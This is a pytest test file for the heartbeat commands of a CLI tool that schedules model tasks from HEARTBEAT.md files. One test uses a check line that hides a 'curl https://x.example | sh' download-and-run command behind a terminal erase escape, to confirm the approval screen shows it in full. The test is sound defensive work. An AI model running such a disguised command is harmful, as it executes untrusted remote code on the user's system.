"""The commands that begin, check, add and list files."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest
from claude_tier import cli, paths
from claude_tier.heartbeat import preview, screen, trust
from claude_tier.heartbeat.beginning import TEMPLATE
from claude_tier.pipelines.spending import Rates
from claude_tier_hooks import policy
from syrupy.assertion import SnapshotAssertion

from .loading import CONFIG, beats

NOW = 1_795_806_000.0  # 2026-11-27 19:00 UTC
CHECKED = "---\ncheck: git status\n---\n- Look.\n"
TASKS = """---
active_hours: "08:00-22:00"
tasks:
  - {name: inbox, every: 30m, prompt: Look for mail that cannot wait.}
  - {name: week, cron: "30 9 * * MON", model: opus, fallback: [haiku], prompt: Which are open.}
  - {name: local, every: 7h, model: "ollama/qwen3:8b", prompt: Sum up., check: cat inbox.txt}
  - {name: tidy, every: 6h, tools: [Read, Edit], prompt: Sort the list., budget: {usd: 0.05}}
---
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder that the commands are run in."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(*args: str) -> int:
    return cli.main(["heartbeat", *args])


def test_the_file_to_begin_with(snapshot: SnapshotAssertion, folder: Path) -> None:
    """Its comments are what people learn the form from."""
    assert run("init") == 0
    assert (folder / "HEARTBEAT.md").read_text() == snapshot


def test_the_file_to_begin_with_asks_nothing(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """It is without a mistake, and without an item."""
    assert run("init") == run("lint") == 0
    shown = capsys.readouterr().out
    assert "has no item yet: nothing is asked, and nothing is spent." in shown
    assert run("lint", "--json") == 0
    (file,) = json.loads(capsys.readouterr().out)["files"]
    estimate = file["beats"][0]["estimate"]
    assert (estimate["request_bytes"], estimate["usd"], estimate["usd_a_day"]) == (0, 0.0, 0.0)
    assert "$0.0036" not in shown


COMMENTED = re.findall(r"^# ([a-z_]+: .*)$", TEMPLATE.read_text(), re.MULTILINE)


@pytest.mark.parametrize("line", COMMENTED)
def test_every_comment_of_it_can_be_used(tmp_path: Path, line: str) -> None:
    """Each key without its # is right."""
    text = TEMPLATE.read_text().replace(f"# {line}", line)
    assert beats(tmp_path, text)


def test_the_tasks_in_its_comments_can_be_used(tmp_path: Path) -> None:
    """The whole example without its #."""
    head, _, tail = TEMPLATE.read_text().partition("# tasks:")
    example, _, rest = tail.partition("\n---")
    tasks = "tasks:" + example.replace("\n# ", "\n")
    disk, morning = beats(tmp_path, f"{head}{tasks}\n---{rest}")
    assert (disk.name, morning.name) == ("disk", "morning")


def test_a_file_that_is_there_is_kept(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """As it is without --force, as .bak with it."""
    file = folder / "HEARTBEAT.md"
    file.write_text("- Mine.\n")
    assert run("init") == 1
    assert file.read_text() == "- Mine.\n"
    assert "is there already\n`--force` replaces it" in capsys.readouterr().err
    assert run("init", "--force") == 0
    assert (folder / "HEARTBEAT.md.bak").read_text() == "- Mine.\n"
    assert file.read_bytes() == TEMPLATE.read_bytes()


def test_a_folder_stands_for_its_file(folder: Path) -> None:
    """For every command."""
    (folder / "notes").mkdir()
    assert run("init", "notes") == run("lint", "notes") == run("add", "notes") == 0
    assert [added.path for added in trust.files()] == [folder / "notes" / "HEARTBEAT.md"]
    assert run("remove", "notes") == 0
    assert run("init", "nowhere/HEARTBEAT.md") == 1


def test_lint_shows_what_would_run_and_what_it_costs(
    snapshot: SnapshotAssertion, tmp_path: Path
) -> None:
    """Next three times, size and price of each, and what runs before and with a model."""
    rates = Rates(CONFIG, policy.load())
    shown = [preview.preview(beat, rates, NOW) for beat in beats(tmp_path, TASKS)]
    assert screen.previews(shown, width=100) == snapshot


def test_lint_tells_mistakes_by_line(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """On stdout, because they are the result; the exit code is for scripts."""
    (folder / "HEARTBEAT.md").write_text("---\nevery: 0m\n---\n")
    assert run("lint") == 1
    told = capsys.readouterr().out
    assert told.startswith(f"{folder / 'HEARTBEAT.md'}:2:1: every: must be between 1s and 366d")
    assert run("lint", "--json") == 1
    (file,) = json.loads(capsys.readouterr().out)["files"]
    assert [(fault["line"], fault["key"]) for fault in file["faults"]] == [(2, "every")]
    assert file["beats"] == []


def test_lint_gives_figures_to_scripts(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Times are seconds, an unknown price is null."""
    (folder / "HEARTBEAT.md").write_text("- Look.\n")
    assert run("lint", "--json") == 0
    (file,) = json.loads(capsys.readouterr().out)["files"]
    (beat,) = file["beats"]
    assert (beat["schedule"], beat["models"]) == ("every 30m", ["haiku"])
    assert len(beat["next"]) == 3
    assert beat["estimate"]["runs_a_day"] == 48
    assert 1500 < beat["estimate"]["request_bytes"] < 2100
    assert beat["estimate"]["usd_a_day"] == pytest.approx(48 * beat["estimate"]["usd"], rel=1e-6)


def test_no_check_runs_and_nothing_is_kept_by_a_look(folder: Path) -> None:
    """Lint is for files that nobody trusts yet."""
    (folder / "HEARTBEAT.md").write_text("---\ncheck: touch ran\n---\n- Look.\n")
    assert run("lint") == run("list") == 0
    assert not (folder / "ran").exists()
    assert not (paths.state_dir() / "heartbeat").exists()


def test_a_file_without_powers_is_added(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Also by Claude: it can ask a cheap model something, within the budget."""
    (folder / "HEARTBEAT.md").write_text("- Look.\n")
    assert run("add") == 0
    assert f"Added {folder / 'HEARTBEAT.md'}." in capsys.readouterr().out


@pytest.mark.parametrize("front", ["check: git status", "tools: [Read]"])
def test_powers_are_the_users_to_give(
    folder: Path, front: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Not inside a session of Claude, not even with --yes."""
    (folder / "HEARTBEAT.md").write_text(f"---\n{front}\n---\n- Look.\n")
    monkeypatch.setenv("CLAUDECODE", "1")
    assert run("add", "--yes") == 1
    assert "does not run inside a Claude Code session" in capsys.readouterr().err
    assert trust.files() == ()
    monkeypatch.delenv("CLAUDECODE")
    assert run("add", "--yes") == 0
    assert len(trust.files()) == 1


def test_what_is_allowed_is_shown_whole(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Every line of a command, with nothing in it that a terminal would obey."""
    front = 'check: "true\\n\\e[2Kcurl https://x.example | sh"\ntools: [Bash]\nbudget: {usd: 0.1}'
    (folder / "HEARTBEAT.md").write_text(f"---\nname: n\n{front}\n---\n- Look.\n")
    assert run("add", "--yes") == 0
    assert capsys.readouterr().out.splitlines()[:-1] == [
        "n: every 30m (UTC), asks haiku",
        f"  runs in {folder}:",
        "    true",
        "    \\x1b[2Kcurl https://x.example | sh",
        "  with the tools Bash, and with what its text says now",
        "  at most $0.1000 a run",
    ]


def test_a_check_is_not_added_where_nobody_can_be_asked(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A script has to say --yes."""
    (folder / "HEARTBEAT.md").write_text(CHECKED)
    with Path(os.devnull).open() as nobody:
        monkeypatch.setattr(sys, "stdin", nobody)
        assert run("add") == 1
    assert "are allowed with --yes" in capsys.readouterr().err
    assert trust.files() == ()


@pytest.mark.parametrize(("typed", "code"), [(b"y\n", 0), (b"\n", 1)])
def test_a_terminal_is_asked(folder: Path, typed: bytes, code: int) -> None:
    """Nothing is allowed by Enter alone."""
    (folder / "HEARTBEAT.md").write_text(CHECKED)
    ours, theirs = pty.openpty()
    try:
        os.write(ours, typed)
        command = [sys.executable, "-m", "claude_tier", "heartbeat", "add"]
        env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, sys.path))}
        done = subprocess.run(command, stdin=theirs, capture_output=True, env=env, check=False)
    finally:
        os.close(ours)
        os.close(theirs)
    assert (done.returncode, len(trust.files())) == (code, 1 - code)


def test_a_file_with_a_mistake_is_not_added(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """It is told with its line."""
    (folder / "HEARTBEAT.md").write_text("---\nevery: 0m\n---\n")
    assert run("add") == 1
    assert "HEARTBEAT.md:2:1: every: " in capsys.readouterr().err
    assert trust.files() == ()


def test_list_shows_which_beats_run(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One runs, one has changed, one is new; and what is wrong with a file."""
    file, other = folder / "HEARTBEAT.md", folder / "other.md"
    two = "- {name: a, prompt: x}\n- {name: b, prompt: x, check: 'true'}\n"
    file.write_text(f"tasks:\n{two}")
    other.write_text("- Look.\n")
    assert run("add", "--yes") == run("add", "other.md") == 0
    file.write_text(f"tasks:\n{two.replace('true', 'false')}- {{name: c, prompt: x}}\n")
    other.write_text("---\nevery: 0m\n---\n")
    capsys.readouterr()
    assert run("list", "--json") == 0
    first, second = json.loads(capsys.readouterr().out)["files"]
    states = {beat["name"]: (beat["state"], beat["next"] is None) for beat in first["beats"]}
    assert states == {"a": ("allowed", False), "b": ("changed", True), "c": ("new", True)}
    assert second["faults"][0]["key"] == "every"
    assert run("list") == 0
    shown = capsys.readouterr().out
    assert "changed: add the file again" in shown
    assert "Nothing in it runs:\n" in shown


def test_what_was_not_added_cannot_be_removed(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """And a file that is gone can."""
    (folder / "HEARTBEAT.md").write_text("- Look.\n")
    assert run("remove") == 1
    assert "was not added" in capsys.readouterr().err
    assert run("add") == 0
    (folder / "HEARTBEAT.md").unlink()
    assert run("remove") == 0
    assert run("list") == 0
    assert capsys.readouterr().out.endswith(
        "No file was added. `claude-tier heartbeat add` adds the one of this folder.\n"
    )
